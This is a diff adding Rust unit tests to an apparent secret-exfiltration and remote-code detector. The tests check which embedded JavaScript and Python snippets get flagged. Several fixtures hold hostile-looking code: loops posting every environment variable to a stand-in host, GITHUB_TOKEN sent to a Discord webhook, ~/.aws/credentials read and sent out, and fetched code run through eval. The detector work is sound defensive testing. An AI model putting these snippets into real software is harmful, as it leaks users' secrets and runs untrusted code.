@@ -555,3 +555,60 @@ fn a_live_connection_message_parsed_as_json_and_run_is_remote_control() {
     ))
     .is_empty());
 }
+
+#[test]
+fn a_lookup_helper_given_the_environment_and_one_name_reads_one_variable() {
+    // `get(env, key) => env[key]` with a constant name: one variable, sent to the client's own service.
+    let helper = "const get = (source, name) => {\n  return source[name];\n};\nasync function call(url) {\n  const key = process.env ? get(process.env, 'MODELS_API_KEY') : undefined;\n  return fetch(url, { headers: { Authorization: `Bearer ${key}` } });\n}\n";
+    assert!(js(helper).is_empty(), "{:?}", js(helper));
+    let field = "function token(env) { return env.MODELS_API_KEY; }\nfetch('https://api.example.invalid', { headers: { a: token(process.env) } });\n";
+    assert!(js(field).is_empty(), "{:?}", js(field));
+    // The same helper handed a name the code does not write could return any variable; returning the
+    // object itself, or a secret sent to a webhook, stays a flow.
+    let dynamic = "const get = (source, name) => source[name];\nfor (const k of Object.keys(process.env)) {\n  fetch('https://x.example.invalid/c', { method: 'POST', body: get(process.env, k) });\n}\n";
+    assert_eq!(js(dynamic).len(), 1, "{:?}", js(dynamic));
+    let whole = "const all = (source) => { return source; };\nfetch('https://x.example.invalid/c', { method: 'POST', body: JSON.stringify(all(process.env)) });\n";
+    assert_eq!(js(whole).len(), 1, "{:?}", js(whole));
+    let webhook = "const get = (source, name) => source[name];\nfetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: get(process.env, 'GITHUB_TOKEN') });\n";
+    assert_eq!(js(webhook).len(), 1, "{:?}", js(webhook));
+}
+
+#[test]
+fn a_condition_is_not_the_value_it_chooses() {
+    let text = "const key = typeof process.env === 'object' && process.env !== null ? process.env.MODELS_API_KEY : undefined;\nfetch('https://api.example.invalid', { headers: { a: key } });\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+    let py_text = "import os, requests\nkey = os.environ.get('MODELS_API_KEY') if os.environ else None\nrequests.get('https://api.example.invalid', headers={'a': key})\n";
+    assert!(py(py_text).is_empty(), "{:?}", py(py_text));
+    // Either branch is the value.
+    let branch = "const body = ready ? JSON.stringify(process.env) : '';\nfetch('https://x.example.invalid/c', { method: 'POST', body });\n";
+    assert_eq!(js(branch).len(), 1, "{:?}", js(branch));
+}
+
+#[test]
+fn a_login_store_the_module_writes_is_its_own() {
+    let own = "const { readFile, writeFile } = require('fs/promises');\nconst path = require('path');\nconst os = require('os');\nconst STORE = path.join(os.homedir(), '.deckhand', 'credentials.json');\nasync function save(login) { await writeFile(STORE, JSON.stringify(login)); }\nasync function load() { return JSON.parse(await readFile(STORE, 'utf-8')); }\nasync function check() {\n  const login = await load();\n  return fetch(API + '/v1/session', { headers: { a: login.token } });\n}\n";
+    assert!(js(own).is_empty(), "{:?}", js(own));
+    // Read only: someone else's store of that name.
+    let foreign = own.replace(
+        "async function save(login) { await writeFile(STORE, JSON.stringify(login)); }\n",
+        "",
+    );
+    assert_eq!(js(&foreign).len(), 1, "{:?}", js(&foreign));
+    // Another tool's store stays a credential even when the module writes it back.
+    let aws = own.replace(
+        "path.join(os.homedir(), '.deckhand', 'credentials.json')",
+        "path.join(os.homedir(), '.aws', 'credentials')",
+    );
+    assert_eq!(js(&aws).len(), 1, "{:?}", js(&aws));
+}
+
+#[test]
+fn option_defaults_are_not_a_url_written_in_the_code() {
+    // A fetch-and-run helper handed a configured remote whose options carry long constants (folder names).
+    let helper = "async function getDoc(url) { const r = await fetch(url); return r.text(); }\nconst defaults = { typesFolder: '@remote-types', cache: 'node_modules/.cache' };\nasync function resolve(options, entry) {\n  const info = { ...defaults, ...options, url: entry };\n  const code = await getDoc(info.url);\n  return new Function(code)();\n}\n";
+    assert!(js(helper).is_empty(), "{:?}", js(helper));
+    let url = format!("{helper}getDoc('https://cdn.example.invalid/p.js').then((c) => eval(c));\nresolve({{}}, 'https://cdn.example.invalid/manifest.js');\n");
+    assert!(!js(&url).is_empty(), "{:?}", js(&url));
+    let raw_ip = format!("{helper}resolve({{}}, '203.0.113.7:8080/m.js');\n");
+    assert_eq!(js(&raw_ip).len(), 1, "{:?}", js(&raw_ip));
+}
